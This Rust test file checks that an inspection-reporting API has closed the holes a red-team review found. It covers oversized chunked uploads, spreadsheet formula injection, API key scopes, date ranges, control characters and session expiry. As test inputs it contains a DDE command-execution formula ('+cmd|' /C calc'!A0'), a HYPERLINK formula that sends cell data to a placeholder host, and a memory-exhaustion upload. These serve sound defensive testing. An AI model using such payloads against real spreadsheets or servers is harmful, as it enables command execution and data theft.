//! What a red-team review got through, each closed: unbounded upload bodies, spreadsheet
//! formulas in CSV answers, API keys as full read credentials, dates that overflow or that
//! PostgreSQL cannot store, control characters in query strings, photos without limit,
//! import answers without limit, and access tokens that outlive their session.

use std::io::{Read, Write};
use std::time::Duration;

use serde_json::{json, Value};

use crate::api_keys::{create_key, create_key_scoped};
use crate::both_backends;
use crate::helpers::{
    assert_problem, token_of, Backend, EmptyDatabase, TestApp, ADMIN_PASSWORD, PASSWORD,
};
use crate::imports::{nip_for, post_csv};
use crate::inspections::Field;

both_backends!(
    a_chunked_upload_with_an_endless_part_header_is_cut_off,
    csv_answers_carry_no_live_formulas,
    a_key_reaches_only_its_scopes,
    dates_outside_1900_to_2100_are_refused_by_field,
    control_characters_in_query_strings_are_refused,
    a_report_holds_a_limited_number_of_photos,
    import_answers_list_at_most_a_hundred_errors,
    access_tokens_end_with_their_session,
);

fn field_of(problem: &Value) -> &str {
    problem["errors"][0]["field"].as_str().unwrap_or("")
}

/// Resident memory of a process, in KiB.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap_or(0)
}

/// The server binary on its own database, so that its memory can be read alone.
struct Process {
    server: crate::helpers::Served,
    _db: EmptyDatabase,
}

impl Process {
    async fn start(backend: Backend) -> Process {
        let db = EmptyDatabase::new(backend);
        let server = crate::helpers::Served::start(&db, crate::helpers::free_port(), &[]).await;
        Process { server, _db: db }
    }

    fn url(&self, path: &str) -> String {
        self.server.url(path)
    }
}

async fn a_chunked_upload_with_an_endless_part_header_is_cut_off(backend: Backend) {
    let server = Process::start(backend).await;
    let client = reqwest::Client::new();
    let login: Value = client
        .post(server.url("/api/v1/auth/login"))
        .json(&json!({"username": "admin", "password": ADMIN_PASSWORD}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let admin = token_of(&login);
    let opd: Value = client
        .post(server.url("/api/v1/opds"))
        .bearer_auth(&admin)
        .json(&json!({"code": "DINKES", "name": "Dinas Kesehatan", "kind": "dinas"}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let draft = uuid::Uuid::new_v4();
    let started = (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339();
    let resp = client
        .post(server.url("/api/v1/inspections"))
        .bearer_auth(&admin)
        .json(&json!({"id": draft, "opd_id": opd["id"], "started_at": started}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 201);

    let pid = server.server.child.id();
    let port = server.server.port;
    let before = rss_kib(pid);
    // 64 MiB, chunked (no Content-Length), inside a part header that never ends.
    let (status, peak) = tokio::task::spawn_blocking(move || {
        let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).expect("connect");
        stream
            .set_write_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        let mut reader = stream.try_clone().expect("clone");
        let answered = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let done = answered.clone();
        let answer = std::thread::spawn(move || {
            let mut got = Vec::new();
            let mut buf = [0u8; 4096];
            while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                match reader.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => got.extend_from_slice(&buf[..n]),
                }
            }
            done.store(true, std::sync::atomic::Ordering::SeqCst);
            String::from_utf8_lossy(&got).to_string()
        });
        let head = format!(
            "POST /api/v1/inspections/{draft}/evidence HTTP/1.1\r\nHost: 127.0.0.1\r\n\
             Authorization: Bearer {admin}\r\nContent-Type: multipart/form-data; boundary=XYZ\r\n\
             Transfer-Encoding: chunked\r\n\r\n"
        );
        let mut peak = 0;
        let mut ok = stream.write_all(head.as_bytes()).is_ok();
        let opening = b"--XYZ\r\nContent-Disposition: form-data; name=\"file\"\r\nX-Pad: ";
        ok = ok
            && stream
                .write_all(format!("{:x}\r\n", opening.len()).as_bytes())
                .and_then(|_| stream.write_all(opening))
                .and_then(|_| stream.write_all(b"\r\n"))
                .is_ok();
        let filler = vec![b'a'; 64 * 1024];
        for i in 0..1024 {
            if !ok || answered.load(std::sync::atomic::Ordering::SeqCst) {
                break;
            }
            ok = stream
                .write_all(format!("{:x}\r\n", filler.len()).as_bytes())
                .and_then(|_| stream.write_all(&filler))
                .and_then(|_| stream.write_all(b"\r\n"))
                .is_ok();
            if i % 16 == 0 {
                peak = peak.max(rss_kib(pid));
            }
        }
        let _ = stream.write_all(b"0\r\n\r\n");
        let _ = stream.shutdown(std::net::Shutdown::Write);
        let answer = answer.join().unwrap_or_default();
        peak = peak.max(rss_kib(pid));
        (answer, peak)
    })
    .await
    .unwrap();
    assert!(
        status.starts_with("HTTP/1.1 413"),
        "answered: {:?}",
        status.lines().next()
    );
    let grown_mib = peak.saturating_sub(before) / 1024;
    assert!(
        grown_mib < 20,
        "the server grew by {grown_mib} MiB while the upload arrived"
    );
    // The server is still there and answers.
    assert_eq!(
        client
            .get(server.url("/readyz"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );

    // A real form sent in one piece — meta first, then a photo far larger than a part's
    // header allowance — arrives whole: the reader pulls all of it while it looks for the
    // photo's headers, and that must not count against them.
    let photo = crate::evidence::jpeg(5, 600 * 1024);
    let mut form = Vec::new();
    form.extend_from_slice(
        b"--XYZ\r\nContent-Disposition: form-data; name=\"meta\"\r\nContent-Type: application/json\r\n\r\n",
    );
    form.extend_from_slice(json!({"id": uuid::Uuid::new_v4()}).to_string().as_bytes());
    form.extend_from_slice(
        b"\r\n--XYZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n",
    );
    form.extend_from_slice(&photo);
    form.extend_from_slice(b"\r\n--XYZ--\r\n");
    let bearer = token_of(&login);
    let status = tokio::task::spawn_blocking(move || {
        let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).expect("connect");
        let head = format!(
            "POST /api/v1/inspections/{draft}/evidence HTTP/1.1\r\nHost: 127.0.0.1\r\n\
             Authorization: Bearer {bearer}\r\nContent-Type: multipart/form-data; boundary=XYZ\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n",
            form.len()
        );
        let mut request = head.into_bytes();
        request.extend_from_slice(&form);
        stream.write_all(&request).expect("sent");
        let mut answer = String::new();
        let _ = stream.read_to_string(&mut answer);
        answer
    })
    .await
    .unwrap();
    assert!(
        status.starts_with("HTTP/1.1 201"),
        "answered: {:?}",
        status.lines().next()
    );
}

async fn csv_answers_carry_no_live_formulas(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.admin_token().await;
    let formula_opd = "=HYPERLINK(\"http://contoh.invalid/?\"&A2,\"Klik\")";
    let resp = app
        .post(
            "/api/v1/opds",
            Some(&admin),
            &json!({"code": "FORMULA", "name": formula_opd, "kind": "dinas"}),
        )
        .await;
    assert_eq!(resp.status(), 201);
    let opd: Value = resp.json().await.unwrap();
    // An official's name as it would come from an HR spreadsheet.
    let evil_name = "+cmd|' /C calc'!A0";
    let csv = format!(
        "nip,full_name,employment_type,position_title,position_kind,opd_code,effective_from\n{},\"{}\",pns,Staf,pelaksana,FORMULA,2024-01-02\n",
        nip_for(7),
        evil_name
    );
    let r: Value = post_csv(&app, &admin, "/api/v1/officials/import", &csv)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(r["created"], 1, "{r}");
    let officials: Value = app
        .get("/api/v1/officials?limit=200", Some(&admin))
        .await
        .json()
        .await
        .unwrap();
    let official = officials["items"][0]["id"].as_str().unwrap().to_string();
    let report = json!({
        "id": uuid::Uuid::new_v4(), "opd_id": opd["id"], "submit": true,
        "started_at": (chrono::Utc::now() - chrono::Duration::hours(1)).to_rfc3339(),
        "findings": [{"id": uuid::Uuid::new_v4(), "official_id": official, "category": "idle",
                      "severity": "low", "description": "Tidur di meja"}]
    });
    assert_eq!(
        app.post("/api/v1/inspections", Some(&admin), &report)
            .await
            .status(),
        201
    );
    for (path, wanted) in [
        (
            "/api/v1/dashboard/opds?format=csv",
            format!("'{formula_opd}"),
        ),
        (
            "/api/v1/dashboard/officials?format=csv&min_findings=1",
            format!("'{evil_name}"),
        ),
    ] {
        let resp = app.get(path, Some(&admin)).await;
        assert_eq!(resp.status(), 200, "{path}");
        let text = resp.text().await.unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        assert!(cells.contains(&wanted), "{path}: {text}");
        // No cell at all begins a formula (a negative number is a number).
        let live = |c: &String| {
            c.starts_with(['=', '+', '@', '\t', '\r'])
                || (c.starts_with('-') && c.parse::<f64>().is_err())
        };
        assert!(!cells.iter().any(live), "{path}: {text}");
    }
}

async fn a_key_reaches_only_its_scopes(backend: Backend) {
    let f = Field::new(backend).await;
    let app = &f.app;
    let report = f.report();
    assert_eq!(f.post_report(&f.inspector, &report).await.status(), 201);
    let id = report["id"].as_str().unwrap();

    // Made without scopes: dashboards and OPD labels only, and it expires in a year.
    let resp = app
        .post(
            "/api/v1/api-keys",
            Some(&f.admin),
            &json!({"name": "Grafana", "role": "supervisor"}),
        )
        .await;
    assert_eq!(resp.status(), 201);
    let created: Value = resp.json().await.unwrap();
    assert_eq!(created["scopes"], json!(["dashboards"]));
    let made =
        chrono::DateTime::parse_from_rfc3339(created["created_at"].as_str().unwrap()).unwrap();
    let expires =
        chrono::DateTime::parse_from_rfc3339(created["expires_at"].as_str().unwrap()).unwrap();
    assert_eq!((expires - made).num_days(), 365);
    let narrow = created["secret"].as_str().unwrap().to_string();
    for path in [
        "/api/v1/dashboard/summary".to_string(),
        "/api/v1/dashboard/officials".to_string(),
        "/api/v1/opds".to_string(),
        format!("/api/v1/opds/{}", f.opd),
    ] {
        assert_eq!(app.get(&path, Some(&narrow)).await.status(), 200, "{path}");
    }
    for path in [
        "/api/v1/officials".to_string(),
        format!("/api/v1/officials/{}", f.officials[0]),
        format!("/api/v1/officials/{}/record", f.officials[0]),
        "/api/v1/sync".to_string(),
        "/api/v1/inspections".to_string(),
        format!("/api/v1/inspections/{id}"),
        "/api/v1/follow-ups".to_string(),
        "/api/v1/audit".to_string(),
        "/metrics".to_string(),
    ] {
        let problem = assert_problem(app.get(&path, Some(&narrow)).await, 403).await;
        assert!(
            problem["detail"].as_str().unwrap().contains("scopes"),
            "{path}: {problem}"
        );
    }

    // Wider reading is asked for by name, and shown in the key list.
    let (_, wider) = create_key_scoped(
        app,
        &f.admin,
        "supervisor",
        Some(&["dashboards", "reports:read"]),
    )
    .await;
    assert_eq!(
        app.get(&format!("/api/v1/inspections/{id}"), Some(&wider))
            .await
            .status(),
        200
    );
    assert_problem(app.get("/api/v1/follow-ups", Some(&wider)).await, 403).await;
    let keys: Value = app
        .get("/api/v1/api-keys", Some(&f.admin))
        .await
        .json()
        .await
        .unwrap();
    let listed: Vec<&Value> = keys["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|k| &k["scopes"])
        .collect();
    assert!(
        listed.contains(&&json!(["dashboards", "reports:read"])),
        "{keys}"
    );

    // A viewer key reads aggregates only; an unknown scope or none is refused.
    for (body, field) in [
        (
            json!({"name": "Layar", "role": "viewer", "scopes": ["reports:read"]}),
            "scopes[0]",
        ),
        (
            json!({"name": "Layar", "role": "supervisor", "scopes": []}),
            "scopes",
        ),
        (
            json!({"name": "Layar", "role": "supervisor", "scopes": ["everything"]}),
            "scopes[0]",
        ),
    ] {
        let problem = assert_problem(
            app.post("/api/v1/api-keys", Some(&f.admin), &body).await,
            422,
        )
        .await;
        assert_eq!(field_of(&problem), field, "{body}");
    }
    let (_, viewer) = create_key(app, &f.admin, "viewer").await;
    assert_eq!(
        app.get("/api/v1/dashboard/summary", Some(&viewer))
            .await
            .status(),
        200
    );
}

async fn dates_outside_1900_to_2100_are_refused_by_field(backend: Backend) {
    let f = Field::new(backend).await;
    let app = &f.app;
    let (_, key) = create_key(app, &f.admin, "viewer").await;
    // Query strings: a date that overflowed the range arithmetic, and its neighbours.
    for (query, field) in [
        ("to=-262143-01-01", "to"),
        ("from=0000-01-01&to=2026-01-01", "from"),
        ("from=2101-01-01&to=2101-02-01", "from"),
        ("from=1899-12-31", "from"),
    ] {
        for path in ["summary", "trends", "opds"] {
            let url = format!("/api/v1/dashboard/{path}?{query}");
            let resp = app.get(&url, Some(&key)).await;
            let problem = assert_problem(resp, 422).await;
            assert_eq!(field_of(&problem), field, "{url}");
        }
    }
    // The edges themselves are fine, also for monthly trends.
    let resp = app
        .get(
            "/api/v1/dashboard/trends?from=2100-01-01&to=2100-12-31&interval=month",
            Some(&key),
        )
        .await;
    assert_eq!(resp.status(), 200);
    let resp = app
        .get("/api/v1/inspections?from=1899-01-01", Some(&f.admin))
        .await;
    assert_eq!(field_of(&assert_problem(resp, 422).await), "from");
    let resp = app.get("/api/v1/audit?to=2101-01-01", Some(&f.admin)).await;
    assert_eq!(field_of(&assert_problem(resp, 422).await), "to");

    // Bodies: a report, a finding, an official, a follow-up.
    let mut report = f.report();
    report["started_at"] = json!("0000-06-01T08:00:00+07:00");
    let problem = assert_problem(f.post_report(&f.inspector, &report).await, 422).await;
    assert_eq!(field_of(&problem), "started_at");
    let mut report = f.report();
    report["findings"][0]["observed_at"] = json!("-262143-01-01T00:00:00Z");
    let problem = assert_problem(f.post_report(&f.inspector, &report).await, 422).await;
    assert!(field_of(&problem).starts_with("findings[0]"), "{problem}");
    for effective_from in ["0000-01-01", "1800-01-01", "2101-01-01"] {
        let resp = app
            .post(
                "/api/v1/officials",
                Some(&f.admin),
                &json!({"nip": nip_for(90), "full_name": "Pegawai Lama", "employment_type": "pns",
                        "position_title": "Staf", "position_kind": "pelaksana", "opd_id": f.opd,
                        "effective_from": effective_from}),
            )
            .await;
        let problem = assert_problem(resp, 422).await;
        assert_eq!(field_of(&problem), "effective_from");
    }
    let csv = format!(
        "nip,full_name,employment_type,position_title,position_kind,opd_code,effective_from\n{},Pegawai,pns,Staf,pelaksana,DINKES,0000-01-01\n",
        nip_for(91)
    );
    let r: Value = post_csv(app, &f.admin, "/api/v1/officials/import", &csv)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(r["applied"], false);
    assert!(
        r["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("1900-01-01"),
        "{r}"
    );
    // Nothing of it was stored, on either database.
    let page: Value = app
        .get("/api/v1/inspections", Some(&f.admin))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(page["items"].as_array().unwrap().len(), 0);
}

async fn control_characters_in_query_strings_are_refused(backend: Backend) {
    let f = Field::new(backend).await;
    let app = &f.app;
    let viewer = app.token_for_role(&f.admin, "viewer").await;
    for (path, token, field) in [
        ("/api/v1/opds?q=%00", &viewer, "q"),
        ("/api/v1/opds?q=dinas%00x", &viewer, "q"),
        ("/api/v1/officials?q=%00", &f.admin, "q"),
        ("/api/v1/users?q=a%0Ab", &f.admin, "q"),
        ("/api/v1/audit?entity=%00", &f.admin, "entity"),
        ("/api/v1/inspections?cursor=%1B", &f.admin, "cursor"),
        ("/api/v1/opds?%00=1", &viewer, "query"),
    ] {
        let problem = assert_problem(app.get(path, Some(token)).await, 422).await;
        assert_eq!(field_of(&problem), field, "{path}");
    }
    // Plain text with spaces and accents is fine.
    assert_eq!(
        app.get("/api/v1/opds?q=Dinas%20Kesehatan%C3%A9", Some(&viewer))
            .await
            .status(),
        200
    );
}

async fn a_report_holds_a_limited_number_of_photos(backend: Backend) {
    let f = Field::with(backend, &[("SIDAK_EVIDENCE_MAX_PER_REPORT", "2")]).await;
    let report = f.report();
    assert_eq!(f.post_report(&f.inspector, &report).await.status(), 201);
    let id = report["id"].as_str().unwrap();
    let mut first = None;
    for n in 0..2u8 {
        let photo = uuid::Uuid::new_v4();
        let resp = crate::evidence::upload(
            &f,
            &f.inspector,
            id,
            crate::evidence::jpeg(n, 3000),
            "foto.jpg",
            Some(json!({"id": photo})),
        )
        .await;
        assert_eq!(resp.status(), 201);
        first.get_or_insert(photo);
    }
    let resp = crate::evidence::upload(
        &f,
        &f.inspector,
        id,
        crate::evidence::jpeg(9, 3000),
        "foto.jpg",
        None,
    )
    .await;
    let problem = assert_problem(resp, 422).await;
    assert_eq!(field_of(&problem), "file");
    // A phone resending a stored photo still gets its answer.
    let resp = crate::evidence::upload(
        &f,
        &f.inspector,
        id,
        crate::evidence::jpeg(0, 3000),
        "foto.jpg",
        Some(json!({"id": first})),
    )
    .await;
    assert_eq!(resp.status(), 200);
    let stored: Value = f
        .app
        .get(&format!("/api/v1/inspections/{id}"), Some(&f.inspector))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(stored["evidence"].as_array().unwrap().len(), 2);
}

async fn import_answers_list_at_most_a_hundred_errors(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.admin_token().await;
    let mut csv = String::from("code,name,kind\n");
    for i in 0..250 {
        csv.push_str(&format!("BAD-{i},Nama {i},bukan-jenis\n"));
    }
    let resp = post_csv(&app, &admin, "/api/v1/opds/import", &csv).await;
    assert_eq!(resp.status(), 200);
    let r: Value = resp.json().await.unwrap();
    assert_eq!(r["applied"], false);
    assert_eq!(r["error_count"], 250);
    let errors = r["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 100);
    assert_eq!(errors[0]["line"], 2);
    assert_eq!(errors[99]["line"], 101);
}

async fn access_tokens_end_with_their_session(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let admin = app.admin_token().await;
    app.create_user(&admin, "petugas", "inspector").await;
    let me = |token: String| {
        let app = &app;
        async move { app.get("/api/v1/me", Some(&token)).await.status() }
    };

    // A replayed refresh token ends its whole session, access tokens included.
    let phone = app.login_ok("petugas", PASSWORD).await;
    let tablet = app.login_ok("petugas", PASSWORD).await;
    let first_refresh = json!({"refresh_token": phone["refresh_token"]});
    let renewed: Value = app
        .post("/api/v1/auth/refresh", None, &first_refresh)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(me(token_of(&renewed)).await, 200);
    assert_eq!(
        app.post("/api/v1/auth/refresh", None, &first_refresh)
            .await
            .status(),
        401
    );
    assert_eq!(me(token_of(&phone)).await, 401);
    assert_eq!(me(token_of(&renewed)).await, 401);
    // …and only that session.
    assert_eq!(me(token_of(&tablet)).await, 200);

    // A password change ends every session of the user.
    let resp = app
        .post(
            "/api/v1/me/password",
            Some(&token_of(&tablet)),
            &json!({"current_password": PASSWORD, "new_password": "kata-sandi-baru-panjang"}),
        )
        .await;
    assert_eq!(resp.status(), 204);
    assert_eq!(me(token_of(&tablet)).await, 401);
    let fresh = app.login_ok("petugas", "kata-sandi-baru-panjang").await;
    assert_eq!(me(token_of(&fresh)).await, 200);
    // An admin's token is untouched by it.
    assert_eq!(me(admin).await, 200);
}
